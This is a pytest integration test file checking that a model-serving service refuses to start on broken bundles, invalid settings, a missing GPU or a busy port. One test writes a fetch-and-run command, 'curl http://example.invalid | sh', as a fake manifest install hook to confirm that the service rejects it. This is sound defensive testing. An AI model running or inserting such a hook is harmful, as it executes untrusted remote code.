"""Start-up failures: a broken bundle, provider or setting stops `python -m service` quickly and clearly.

Each case runs the real entry point as a subprocess on 127.0.0.1 and asserts a non-zero exit within a few
seconds, with a message that names the file or the setting at fault. Nothing is mocked: the bundle copies are
damaged on disk the way a bad deploy or a tampered artifact would damage them.
"""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from service.runtime import cuda_driver_present
from tests.integration.conftest import free_port, service_command

REPO = Path(__file__).resolve().parents[2]
START_LIMIT_S = 12.0  # import + bundle verification on a busy 2-core machine; a hang would blow far past it


def run_service(model_dir: Path, port: int | None = None, **settings: str) -> tuple[int, str, float]:
    """Run the real server until it exits; (exit status, combined output, seconds)."""
    cmd, env = service_command(model_dir, port or free_port(), **settings)
    started = time.monotonic()
    try:
        proc = subprocess.run(cmd, cwd=REPO, env=env, capture_output=True, text=True, timeout=60)
    except subprocess.TimeoutExpired as exc:  # a server that starts instead of refusing
        out = (exc.stdout or b"").decode(errors="replace") if isinstance(exc.stdout, bytes) else (exc.stdout or "")
        pytest.fail(f"server did not exit within 60 s; output:\n{out}")
    return proc.returncode, proc.stdout + proc.stderr, time.monotonic() - started


def _manifest(bundle: Path) -> dict:
    return json.loads((bundle / "manifest.json").read_text())


def _write_manifest_raw(bundle: Path, data: dict) -> None:
    (bundle / "manifest.json").write_text(json.dumps(data, indent=2))


def _flip_byte(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0xFF
    path.write_bytes(bytes(data))


def _missing_manifest(b: Path) -> None:
    (b / "manifest.json").unlink()


def _corrupt_model(b: Path) -> None:
    _flip_byte(b / "model.onnx")


def _truncate_model(b: Path) -> None:
    data = (b / "model.onnx").read_bytes()
    (b / "model.onnx").write_bytes(data[: len(data) // 3])


def _tamper_checksum(b: Path) -> None:
    m = _manifest(b)
    digest = m["files"]["model.onnx"]
    m["files"]["model.onnx"] = ("0" if digest[0] != "0" else "1") + digest[1:]
    _write_manifest_raw(b, m)


def _drop_checksum(b: Path) -> None:
    m = _manifest(b)
    del m["files"]["model.onnx"]
    _write_manifest_raw(b, m)


def _invalid_manifest_field(b: Path) -> None:
    m = _manifest(b)
    m["max_length"] = "sixty-four"
    _write_manifest_raw(b, m)


def _unknown_manifest_field(b: Path) -> None:
    m = _manifest(b)
    m["post_install_hook"] = "curl http://example.invalid | sh"
    _write_manifest_raw(b, m)


def _manifest_not_json(b: Path) -> None:
    (b / "manifest.json").write_text('{"name": "tiny", ')


def _missing_tokenizer(b: Path) -> None:
    (b / "tokenizer.json").unlink()


def _garbage_model_with_valid_checksums(b: Path) -> None:
    """A model file that is not ONNX at all, re-checksummed: verification passes, ONNX Runtime must refuse."""
    from service.bundle import read_manifest, write_manifest

    manifest = read_manifest(b)
    (b / "model.onnx").write_bytes(b"this is not an ONNX protobuf\n" * 100)
    write_manifest(b, manifest)


# case id -> (damage the bundle copy, substrings the output must contain)
BUNDLE_CASES: dict[str, tuple[Callable[[Path], None], list[str]]] = {
    "missing-manifest": (_missing_manifest, ["manifest.json", "manifest not found"]),
    "corrupted-model": (_corrupt_model, ["model.onnx", "checksum mismatch"]),
    "truncated-model": (_truncate_model, ["model.onnx", "checksum mismatch"]),
    "tampered-manifest-checksum": (_tamper_checksum, ["model.onnx", "checksum mismatch"]),
    "tampered-manifest-dropped-checksum": (_drop_checksum, ["model.onnx", "no checksum"]),
    "tampered-manifest-bad-field": (_invalid_manifest_field, ["manifest.json", "max_length"]),
    "tampered-manifest-unknown-field": (_unknown_manifest_field, ["manifest.json", "post_install_hook"]),
    "manifest-not-json": (_manifest_not_json, ["manifest.json", "not valid JSON"]),
    "missing-tokenizer": (_missing_tokenizer, ["tokenizer.json", "missing"]),
    "garbage-model-valid-checksums": (_garbage_model_with_valid_checksums, ["model.onnx"]),
}


def assert_refused(rc: int, output: str, seconds: float, needles: list[str]) -> None:
    assert rc != 0, f"server exited 0 on a broken start-up:\n{output}"
    assert seconds < START_LIMIT_S, f"refusing to start took {seconds:.1f} s (limit {START_LIMIT_S} s):\n{output}"
    for needle in needles:
        assert needle in output, f"start-up output does not mention {needle!r}:\n{output}"
    assert "Uvicorn running on" not in output, f"server started listening despite the failure:\n{output}"


@pytest.fixture
def bundle_copy(tiny_bundle: Path, tmp_path: Path) -> Path:
    dst = tmp_path / "bundle"
    shutil.copytree(tiny_bundle, dst)
    return dst


@pytest.mark.parametrize("case", list(BUNDLE_CASES))
def test_broken_bundle_refuses_to_start(case: str, bundle_copy: Path) -> None:
    damage, needles = BUNDLE_CASES[case]
    damage(bundle_copy)
    rc, output, seconds = run_service(bundle_copy)
    assert_refused(rc, output, seconds, needles)


def test_missing_bundle_dir_refuses_to_start(tmp_path: Path) -> None:
    missing = tmp_path / "no-such-bundle"
    rc, output, seconds = run_service(missing)
    assert_refused(rc, output, seconds, [str(missing), "does not exist"])


@pytest.mark.skipif(cuda_driver_present(), reason="a GPU driver is present: CUDA may really start here")
def test_cuda_demanded_without_gpu_refuses_to_start(tiny_bundle: Path) -> None:
    rc, output, seconds = run_service(tiny_bundle, provider="cuda")
    assert_refused(rc, output, seconds, ["BERTSERVE_PROVIDER=cuda"])


def test_variant_not_in_bundle_refuses_to_start(tiny_bundle: Path) -> None:
    rc, output, seconds = run_service(tiny_bundle, variant="fp16")
    assert_refused(rc, output, seconds, ["'fp16'", "not in the bundle"])


@pytest.mark.parametrize(
    ("setting", "value"),
    [
        ("max_batch_size", "0"),
        ("provider", "tpu"),
        ("max_body_bytes", "lots"),
        ("request_timeout_s", "-1"),
        ("solo_threads", "-1"),
    ],
)
def test_invalid_setting_refuses_to_start(tiny_bundle: Path, setting: str, value: str) -> None:
    rc, output, seconds = run_service(tiny_bundle, **{setting: value})
    assert rc == 2, f"exit status {rc} for BERTSERVE_{setting.upper()}={value}:\n{output}"
    assert seconds < START_LIMIT_S
    assert "invalid settings" in output and setting in output, output


def test_port_in_use_refuses_to_start(tiny_bundle: Path) -> None:
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        rc, output, seconds = run_service(tiny_bundle, port=port)
    assert rc != 0, output
    assert seconds < START_LIMIT_S + 5  # the port is only bound after the bundle is loaded
    assert "address already in use" in output.lower(), output
